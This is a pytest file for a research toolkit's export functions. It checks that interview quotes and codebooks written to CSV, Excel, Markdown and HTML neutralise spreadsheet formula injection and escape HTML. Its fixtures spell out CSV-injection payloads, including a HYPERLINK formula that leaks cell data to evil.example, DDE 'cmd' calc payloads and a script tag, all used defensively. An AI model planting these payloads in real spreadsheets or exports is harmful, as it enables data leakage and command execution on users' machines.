"""Exports: formula-safe CSV (hostile strings read back neutralised) and verbatim Excel (text
cells, never formulas), the 0/1 code matrix, and the codebook as an escaped Markdown / HTML /
spreadsheet table."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from research_kit import open_study
from research_kit.errors import InputError
from research_kit.interviews import apply_codes, codings, remove_coding
from research_kit.interviews.export import (
    code_matrix,
    codebook_html,
    codebook_markdown,
    codebook_table,
    export_code_matrix,
    export_codebook,
    export_quotes,
    markdown_cell,
)
from research_kit.privacy import looks_like_formula, neutralise_formula, safe_for_spreadsheet

SAMPLE_STUDY = Path(__file__).resolve().parents[1] / "interview_data"
HOSTILE_ID = "P15_resident"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
COMMAND = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB_FORMULA = "\t=1+1 after a tab"
SCRIPT = '<script>alert("x")</script> and an accent: café, señora'
HOSTILE_NOTE = f"""---
participant: P15
role: resident
ward: Ward 3
date: 2026-05-01
interviewer: "@SUM(A1:A2)"
setting: '=HYPERLINK("http://evil.example","click")'
---

{HYPERLINK}

{COMMAND}

{AT_SUM}

{SCRIPT}

-5

Intro line
{TAB_FORMULA}
"""
EXTRA_CODE = """
  - id: pipes_and_bars
    name: "Pipes | bars"
    parent: ideas_for_change
    definition: |-
      First line with a back\\slash
      second line
    include: "=SUM(1)+cmd"
    example: "<script>alert(1)</script>"
"""
#: What a spreadsheet would run (OWASP); plain numbers such as "-5" are read as numbers.
_RUNNABLE = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


@pytest.fixture
def hostile(sample_study_path):
    (sample_study_path / "notes" / f"{HOSTILE_ID}.md").write_text(HOSTILE_NOTE, encoding="utf-8")
    with (sample_study_path / "codebook.yml").open("a", encoding="utf-8") as handle:
        handle.write(EXTRA_CODE)
    study = open_study(sample_study_path)
    for coding_id in codings(study)["coding_id"]:  # start from none, whatever the sample ships
        remove_coding(study, coding_id)
    text = study.document(HOSTILE_ID).text

    def span(snippet: str) -> dict:
        start = text.index(snippet)
        return {"document_id": HOSTILE_ID, "start": start, "end": start + len(snippet)}

    rows = [
        span(HYPERLINK) | {"code_id": "portal_problems", "coder": "Ana"},
        span(HYPERLINK) | {"code_id": "cost_of_delay", "coder": "Ben"},
        span(COMMAND) | {"code_id": "cost_of_delay", "coder": "Ana"},
        span(AT_SUM) | {"code_id": "distrust_of_city", "coder": "Ana"},
        span(TAB_FORMULA) | {"code_id": "helpful_staff", "coder": "Ana"},
        span(SCRIPT) | {"code_id": "distrust_of_city", "coder": "Ana"},
        span("-5") | {"code_id": "paying_for_help", "coder": "Ana"},
    ]
    apply_codes(study, pd.DataFrame(rows))
    yield study
    study.close()


def _assert_nothing_runnable(cells) -> None:
    for cell in cells:
        if isinstance(cell, str) and not _NUMBER.match(cell):
            assert not cell.startswith(_RUNNABLE), repr(cell)


# -- neutralising --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (COMMAND, "'" + COMMAND),
        (AT_SUM, "'" + AT_SUM),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-2+3", "'-2+3"),
        ("  =1", "'  =1"),  # past leading spaces
        ("\uff1dSUM(1)", "'\uff1dSUM(1)"),  # full-width equals sign
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("Ward 3", "Ward 3"),
        ("a=b", "a=b"),
        ("", ""),
        ("-5", "-5"),
        ("+1.5", "+1.5"),
        (-5, -5),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected


def test_safe_for_spreadsheet_keeps_numbers_and_missing_values():
    frame = pd.DataFrame(
        {
            "=col": ["=1", None, "ok"],
            "n": [-1, 2, 3],
            "share": [0.5, np.nan, -0.25],
            "flag": [True, False, True],
            "count": pd.array([1, None, 3], dtype="Int64"),
        }
    )
    safe = safe_for_spreadsheet(frame)
    assert list(safe.columns) == ["'=col", "n", "share", "flag", "count"]
    assert safe["'=col"].tolist()[0] == "'=1" and pd.isna(safe["'=col"].iloc[1])
    for column in ["n", "share", "flag", "count"]:
        assert safe[column].dtype == frame[column].dtype
    assert frame["=col"].iloc[0] == "=1"  # the input is not changed


# -- quotes ----------------------------------------------------------------------------------------
def test_quotes_csv_is_formula_safe_utf8_with_bom(hostile, tmp_path):
    path = export_quotes(hostile, tmp_path / "quotes.csv", where={"participant": "P15"})
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    assert len(body) == 7  # six excerpts, the first with two codes
    _assert_nothing_runnable(cell for row in rows for cell in row)
    table = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    texts = table["text"].tolist()
    assert "'" + HYPERLINK in texts
    assert "'" + COMMAND in texts
    assert "'" + AT_SUM in texts
    assert "'" + TAB_FORMULA in texts
    assert SCRIPT in texts  # HTML is not a spreadsheet threat: left as readable text
    assert "-5" in [str(text) for text in texts]
    assert set(table["interviewer"]) == {"'@SUM(A1:A2)"}
    assert set(table["setting"]) == {"'" + '=HYPERLINK("http://evil.example","click")'}
    assert table["start"].dtype.kind == "i" and table["end"].dtype.kind == "i"
    assert "text" in header and "code_id" in header


def test_quotes_xlsx_is_verbatim_and_never_a_formula(hostile, tmp_path):
    path = export_quotes(hostile, tmp_path / "quotes.xlsx", where={"participant": "P15"})
    sheet = openpyxl.load_workbook(path)["quotes"]
    _assert_text_cells_exact_and_inert(sheet)
    header = [cell.value for cell in next(sheet.iter_rows())]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    texts = [row[header.index("text")] for row in rows]
    assert HYPERLINK in texts and SCRIPT in texts and TAB_FORMULA in texts and COMMAND in texts
    assert {row[header.index("interviewer")] for row in rows} == {"@SUM(A1:A2)"}
    starts = [row[header.index("start")] for row in rows]
    assert all(isinstance(start, int) for start in starts)  # numbers stay numbers
    read_back = pd.read_excel(path)
    assert len(read_back) == 7


def test_sample_quotes_and_memos_xlsx_equal_the_text(sample_study_path, tmp_path):
    """Every text cell of the sample's quotes export is the stored text, character for character."""
    from research_kit.interviews import add_memo, export_memos, import_shipped_codings, quotes

    with open_study(sample_study_path) as study:
        import_shipped_codings(study)
        source = quotes(study)
        path = export_quotes(study, tmp_path / "quotes.xlsx")
        memo_text = "- a bullet, as researchers write them\n=not a formula\t "
        add_memo(study, memo_text, on="code", target="cost_of_delay")
        memo_path = export_memos(study, tmp_path / "memos.xlsx")
    assert not source.empty  # the sample ships coded; a test of nothing proves nothing
    sheet = openpyxl.load_workbook(path)["quotes"]
    _assert_text_cells_exact_and_inert(sheet)
    header = [cell.value for cell in next(sheet.iter_rows())]
    assert header == list(source.columns)
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(source)
    risky = 0
    for column in ("text", "participant", "code", "theme", "coders", "setting"):
        cells = [row[header.index(column)] for row in rows]
        expected = source[column].tolist()
        expected_cells = [value if isinstance(value, str) else None for value in expected]
        assert [cell.value for cell in cells] == expected_cells
        risky += sum(neutralise_formula(v) != v for v in expected if isinstance(v, str))
    assert risky > 0  # some quotes start like a formula ("- ") and still come back unchanged
    memo_sheet = openpyxl.load_workbook(memo_path)["memos"]
    _assert_text_cells_exact_and_inert(memo_sheet)
    memo_header = [cell.value for cell in next(memo_sheet.iter_rows())]
    memo_row = next(memo_sheet.iter_rows(min_row=2, values_only=True))
    assert memo_row[memo_header.index("text")] == memo_text


def _assert_text_cells_exact_and_inert(sheet) -> None:
    """No formula cell; every text is a text cell; one that starts like a formula is marked
    quote-prefixed (Excel keeps it text when edited)."""
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s", cell.coordinate
            assert bool(cell.quotePrefix) == looks_like_formula(cell.value), cell.coordinate
            assert not cell.value.startswith("'"), cell.coordinate


def test_quotes_xlsx_drops_characters_excel_cannot_hold(hostile, tmp_path, monkeypatch):
    import research_kit.interviews.export as export

    sneaky = pd.DataFrame({"text": ["\x01=1+1", "bell\x07"], "n": [1, 2]})
    monkeypatch.setattr(export, "quotes", lambda study, **filters: sneaky)
    path = export_quotes(hostile, tmp_path / "sneaky.xlsx")
    sheet = openpyxl.load_workbook(path).active
    assert [row[0] for row in sheet.iter_rows(values_only=True)] == ["text", "=1+1", "bell"]
    _assert_text_cells_exact_and_inert(sheet)


def test_exports_refuse_unknown_suffixes_and_missing_folders(hostile, tmp_path):
    with pytest.raises(InputError, match="csv"):
        export_quotes(hostile, tmp_path / "quotes.json")
    with pytest.raises(InputError, match="does not exist"):
        export_quotes(hostile, tmp_path / "missing" / "quotes.csv")
    with pytest.raises(InputError, match=r"\.md"):
        export_codebook(hostile, tmp_path / "codebook.txt")


# -- code matrix -----------------------------------------------------------------------------------
def test_code_matrix_one_row_per_excerpt(hostile):
    matrix = code_matrix(hostile)
    codes = hostile.codebook().to_frame()["code_id"].tolist()
    assert list(matrix.columns) == ["document_id", "start", "end", "text", *codes]
    assert len(matrix) == 6
    assert matrix["start"].is_monotonic_increasing
    assert matrix[codes].isin([0, 1]).all().all()
    assert matrix[codes].sum().loc[
        ["cost_of_delay", "distrust_of_city", "portal_problems"]
    ].tolist() == [2, 2, 1]
    first = matrix.iloc[0]
    assert first["text"] == HYPERLINK
    assert first[["portal_problems", "cost_of_delay", "helpful_staff"]].tolist() == [1, 1, 0]
    assert int(matrix[codes].to_numpy().sum()) == 7
    ben = code_matrix(hostile, coder="Ben")
    assert len(ben) == 1 and ben.loc[0, "cost_of_delay"] == 1 and ben.loc[0, "portal_problems"] == 0
    by_note = code_matrix(hostile, unit="document")
    assert by_note["document_id"].tolist() == [HOSTILE_ID]
    assert int(by_note[codes].to_numpy().sum()) == 5  # five distinct codes in the note
    with pytest.raises(ValueError, match="unit"):
        code_matrix(hostile, unit="sentence")


def test_code_matrix_of_an_uncoded_study(sample_study_path):
    with open_study(sample_study_path) as study:
        for coding_id in codings(study)["coding_id"]:
            remove_coding(study, coding_id)
        matrix = code_matrix(study)
    assert matrix.empty and list(matrix.columns[:4]) == ["document_id", "start", "end", "text"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_code_matrix(hostile, tmp_path, suffix):
    path = export_code_matrix(hostile, tmp_path / f"matrix{suffix}")
    if suffix == ".csv":
        table = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    else:
        table = pd.read_excel(path, keep_default_na=False)
        _assert_text_cells_exact_and_inert(openpyxl.load_workbook(path).active)
    assert len(table) == 6
    assert table["cost_of_delay"].tolist() == [1, 1, 0, 0, 0, 0]
    assert table["cost_of_delay"].dtype.kind == "i"
    if suffix == ".csv":
        assert table["text"].iloc[0] == "'" + HYPERLINK
        _assert_nothing_runnable(table["text"])
    else:
        assert table["text"].iloc[0] == HYPERLINK


# -- codebook --------------------------------------------------------------------------------------
def _cells(line: str) -> list[str]:
    return [cell.strip() for cell in re.split(r"(?<!\\)\|", line)[1:-1]]


def test_codebook_markdown_escapes_pipes_and_line_breaks(hostile):
    table = codebook_markdown(hostile)
    lines = table.splitlines()
    book = hostile.codebook()
    assert len(lines) == 2 + len(book)  # header, rule, one row per code
    assert _cells(lines[0]) == ["Theme", "Code", "Definition", "Include", "Exclude", "Example"]
    assert all(len(_cells(line)) == 6 for line in lines)
    theme = book.themes[0]
    assert _cells(lines[2])[:2] == [theme.name, ""]  # a theme's own row
    assert _cells(lines[3])[:2] == [theme.name, book.children(theme.id)[0].name]
    pipes = _cells(lines[-1])
    assert pipes == [
        "Ideas for change",
        "Pipes \\| bars",
        "First line with a back\\\\slash<br>second line",
        "=SUM(1)+cmd",
        "",
        "&lt;script>alert(1)&lt;/script>",
    ]
    assert "<script" not in table


def test_codebook_markdown_renders_as_a_clean_table(hostile):
    markdown_it = pytest.importorskip("markdown_it")
    parser = markdown_it.MarkdownIt("commonmark").enable("table")
    rendered = parser.render(codebook_markdown(hostile))
    assert "<script" not in rendered
    assert rendered.count("<tr>") == 1 + len(hostile.codebook())
    assert "Pipes | bars" in rendered
    assert "back\\slash" in rendered


def test_codebook_table_is_a_dataframe_and_old_formats_warn(hostile):
    table = codebook_table(hostile)
    assert isinstance(table, pd.DataFrame)
    assert table.columns.tolist() == [
        "theme",
        "code",
        "definition",
        "include",
        "exclude",
        "example",
    ]
    assert len(table) == 28
    old_calls = {"markdown": codebook_markdown(hostile), "html": codebook_html(hostile)}
    for fmt, new in old_calls.items():
        warned = rf"fmt='{fmt}'\) is deprecated: write codebook_{fmt}\(\)"
        with pytest.warns(DeprecationWarning, match=warned):
            assert codebook_table(hostile, fmt=fmt) == new
    with pytest.warns(DeprecationWarning, match=r"write codebook_table\(\)"):
        pd.testing.assert_frame_equal(codebook_table(hostile, fmt="frame"), table)
    with pytest.raises(ValueError, match="fmt must be one of"):
        codebook_table(hostile, fmt="pdf")


def test_markdown_cell():
    assert markdown_cell(None) == "" and markdown_cell(np.nan) == ""
    assert markdown_cell("a|b") == "a\\|b"
    assert markdown_cell("a\r\nb\rc\n") == "a<br>b<br>c"
    assert markdown_cell("Planning & Zoning &amp; more") == "Planning & Zoning &amp;amp; more"
    assert markdown_cell(3) == "3"


def test_export_codebook_in_every_format(hostile, tmp_path):
    markdown = export_codebook(hostile, tmp_path / "codebook.md").read_text(encoding="utf-8")
    assert markdown.startswith("# Codebook: Port Alder")
    assert "Pipes \\| bars" in markdown
    page = export_codebook(hostile, tmp_path / "codebook.html").read_text(encoding="utf-8")
    assert "<script" not in page and "&lt;script&gt;" in page
    table = pd.read_csv(
        export_codebook(hostile, tmp_path / "codebook.csv"),
        encoding="utf-8-sig",
        keep_default_na=False,
    )
    assert list(table.columns) == ["theme", "code", "definition", "include", "exclude", "example"]
    assert len(table) == len(hostile.codebook())
    assert table["include"].iloc[-1] == "'=SUM(1)+cmd"
    assert table["definition"].iloc[-1] == "First line with a back\\slash\nsecond line"
    sheet = openpyxl.load_workbook(export_codebook(hostile, tmp_path / "codebook.xlsx")).active
    _assert_text_cells_exact_and_inert(sheet)
    assert "=SUM(1)+cmd" in [cell.value for row in sheet.iter_rows() for cell in row]
    assert sheet.max_row == 1 + len(hostile.codebook())
